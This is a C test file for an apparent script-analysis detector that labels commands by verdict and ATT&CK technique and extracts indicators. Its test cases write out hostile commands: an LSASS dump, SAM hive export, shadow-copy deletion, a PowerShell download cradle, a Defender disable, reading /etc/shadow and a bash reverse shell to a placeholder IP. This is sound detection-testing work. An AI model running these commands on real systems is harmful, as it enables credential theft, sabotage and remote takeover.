/* test-script-find.c
 *
 * What the rules say about scripts of our own, and that the rules are sound.
 *
 * SPDX-License-Identifier: MIT
 */
#include "config.h"

#include "vdt-script.h"

#include <json-glib/json-glib.h>
#include <string.h>

typedef struct
{
  const char       *script;
  VdtScriptLang     lang;
  VdtScriptVerdict  verdict;
  const char       *technique;   /* one that must be among the main ones, or NULL */
} Case;

static const Case cases[] = {
  { "vssadmin delete shadows /all /quiet", VDT_SCRIPT_LANG_CMD, VDT_SCRIPT_VERDICT_MALICIOUS, "T1490" },
  { "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\d.bin full", VDT_SCRIPT_LANG_CMD,
    VDT_SCRIPT_VERDICT_MALICIOUS, "T1003.001" },
  { "reg save HKLM\\SAM C:\\s.hiv", VDT_SCRIPT_LANG_CMD, VDT_SCRIPT_VERDICT_MALICIOUS, "T1003.002" },
  { "schtasks /create /tn Upd /tr c:\\p\\u.exe /sc daily", VDT_SCRIPT_LANG_CMD, VDT_SCRIPT_VERDICT_BENIGN,
    "T1053.005" },
  { "r^eg ad\"d\" HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d c:\\a.exe", VDT_SCRIPT_LANG_CMD,
    VDT_SCRIPT_VERDICT_BENIGN, "T1547.001" },
  { "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", VDT_SCRIPT_LANG_POWERSHELL,
    VDT_SCRIPT_VERDICT_SUSPICIOUS, "T1105" },
  { "& ('Set-Mp'+'Preference') -DisableRealtimeMonitoring $true", VDT_SCRIPT_LANG_POWERSHELL,
    VDT_SCRIPT_VERDICT_SUSPICIOUS, "T1685" },
  { "cat /etc/shadow", VDT_SCRIPT_LANG_SHELL, VDT_SCRIPT_VERDICT_SUSPICIOUS, "T1003.008" },
  { "echo 'ssh-ed25519 AAAA me' >> ~/.ssh/authorized_keys", VDT_SCRIPT_LANG_SHELL, VDT_SCRIPT_VERDICT_BENIGN,
    "T1098.004" },
  { "bash -i >& /dev/tcp/203.0.113.4/443 0>&1", VDT_SCRIPT_LANG_SHELL, VDT_SCRIPT_VERDICT_MALICIOUS,
    "T1059.004" },
  { "Get-Date | Out-Host", VDT_SCRIPT_LANG_POWERSHELL, VDT_SCRIPT_VERDICT_BENIGN, NULL },
  { "echo hello", VDT_SCRIPT_LANG_SHELL, VDT_SCRIPT_VERDICT_BENIGN, NULL },
};

static gboolean
has_technique (const VdtScriptResult *result,
               const char            *id)
{
  for (guint i = 0; i < result->techniques->len; i++)
    if (g_str_equal (((VdtScriptTechnique *) g_ptr_array_index (result->techniques, i))->id, id))
      return TRUE;

  return FALSE;
}

static void
test_cases (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(VdtScriptResult) result = vdt_script_analyse (cases[i].script, -1, cases[i].lang, NULL, NULL);

      if (result->verdict != cases[i].verdict)
        g_error ("%s: judged %s", cases[i].script, vdt_script_verdict_get_id (result->verdict));
      if (cases[i].technique != NULL && !has_technique (result, cases[i].technique))
        g_error ("%s: no %s", cases[i].script, cases[i].technique);
      g_assert_cmpuint (result->techniques->len, <=, 3);
    }
}

/* Every finding says where, every sentence rests on a finding, a verdict that is
 * no “benign” names what decides. */
static void
test_cited (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(VdtScriptResult) result = vdt_script_analyse (cases[i].script, -1, cases[i].lang, NULL, NULL);
      gboolean decided = result->verdict < VDT_SCRIPT_VERDICT_SUSPICIOUS;

      for (guint f = 0; f < result->findings->len; f++)
        {
          const VdtScriptFinding *finding = g_ptr_array_index (result->findings, f);

          g_assert_cmpuint (finding->line, >=, 1);
          g_assert_cmpuint (finding->commands->len, >=, 1);
          g_assert_cmpuint (finding->layer, <, result->layers->len);
          decided |= finding->decides;
        }
      g_assert_true (decided);

      for (guint s = 0; s < result->explanation->len; s++)
        {
          const VdtScriptStatement *statement = g_ptr_array_index (result->explanation, s);

          g_assert_cmpuint (statement->findings->len, >=, 1);
          g_assert_true (g_utf8_validate (statement->text, -1, NULL));
          g_assert_null (strchr (statement->text, '{'));
        }
    }
}

static void
test_indicators (void)
{
  static const struct { const char *script; const char *type; const char *value; } rows[] = {
    { "curl -o /tmp/a.bin https://cdn.example.net/p/a.bin", "url", "https://cdn.example.net/p/a.bin" },
    { "curl -o /tmp/a.bin https://cdn.example.net/p/a.bin", "domain", "cdn.example.net" },
    { "curl -o /tmp/a.bin https://cdn.example.net/p/a.bin", "path", "/tmp/a.bin" },
    { "ping 203.0.113.77", "ip", "203.0.113.77" },
    { "mail -s x someone@example.org < /tmp/b.txt", "email", "someone@example.org" },
    { "curl -A 'Agent 7' http://198.51.100.2/", "user-agent", "Agent 7" },
    { "echo 12d848a99cde136e981d7d6d0dcb1c5acad2e1d4ec4e5e9b136d305ce7eb602b", "hash",
      "12d848a99cde136e981d7d6d0dcb1c5acad2e1d4ec4e5e9b136d305ce7eb602b" },
  };
  static const char *const decoys[] = {
    "echo version 10.0.19041.1", "echo http://schemas.microsoft.com/a/b", "x=this.name", "echo 1.2.3",
    "echo Chrome/96.0.46.10",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (rows); i++)
    {
      g_autoptr(VdtScriptResult) result = vdt_script_analyse (rows[i].script, -1, VDT_SCRIPT_LANG_SHELL, NULL, NULL);
      gboolean found = FALSE;

      for (guint n = 0; n < result->indicators->len; n++)
        {
          const VdtScriptIndicator *indicator = g_ptr_array_index (result->indicators, n);

          found |= g_str_equal (indicator->type, rows[i].type) && g_str_equal (indicator->value, rows[i].value);
        }
      if (!found)
        g_error ("%s: no %s %s", rows[i].script, rows[i].type, rows[i].value);
    }

  for (gsize i = 0; i < G_N_ELEMENTS (decoys); i++)
    {
      g_autoptr(VdtScriptResult) result = vdt_script_analyse (decoys[i], -1, VDT_SCRIPT_LANG_SHELL, NULL, NULL);

      if (result->indicators->len > 0)
        g_error ("%s: %s is taken", decoys[i],
                 ((VdtScriptIndicator *) g_ptr_array_index (result->indicators, 0))->value);
    }
}

static JsonObject *
load (JsonParser *parser,
      const char *name)
{
  g_autofree char *path = g_build_filename (g_getenv ("VDT_SOURCE_ROOT"), "data", "script", name, NULL);
  g_autoptr(GError) error = NULL;

  json_parser_load_from_file (parser, path, &error);
  g_assert_no_error (error);

  return json_node_get_object (json_parser_get_root (parser));
}

/* The rules as data: ids are unique, techniques exist, every rule has a way to be met. */
static void
test_rules (void)
{
  g_autoptr(JsonParser) index_parser = json_parser_new ();
  g_autoptr(JsonParser) names_parser = json_parser_new ();
  JsonArray *files = json_object_get_array_member (load (index_parser, "rules.json"), "files");
  JsonObject *names = load (names_parser, "techniques.json");
  g_autoptr(GHashTable) ids = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);

  for (guint f = 0; f < json_array_get_length (files); f++)
    {
      g_autoptr(JsonParser) parser = json_parser_new ();
      JsonArray *rules = json_object_get_array_member (load (parser, json_array_get_string_element (files, f)), "rules");

      for (guint i = 0; i < json_array_get_length (rules); i++)
        {
          JsonObject *rule = json_array_get_object_element (rules, i);
          JsonArray *techniques = json_object_get_array_member (rule, "techniques");

          if (!g_hash_table_add (ids, g_strdup (json_object_get_string_member (rule, "id"))))
            g_error ("%s is there twice", json_object_get_string_member (rule, "id"));
          g_assert_true (json_object_has_member (rule, "any") != json_object_has_member (rule, "combines"));
          g_assert_cmpstr (json_object_get_string_member (rule, "says"), !=, "");
          for (guint t = 0; t < json_array_get_length (techniques); t++)
            if (!json_object_has_member (names, json_array_get_string_element (techniques, t)))
              g_error ("%s names %s, which is no technique", json_object_get_string_member (rule, "id"),
                       json_array_get_string_element (techniques, t));
        }
    }

  g_assert_cmpuint (g_hash_table_size (ids), >, 200);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/script/find/cases", test_cases);
  g_test_add_func ("/script/find/cited", test_cited);
  g_test_add_func ("/script/find/indicators", test_indicators);
  g_test_add_func ("/script/find/rules", test_rules);

  return g_test_run ();
}
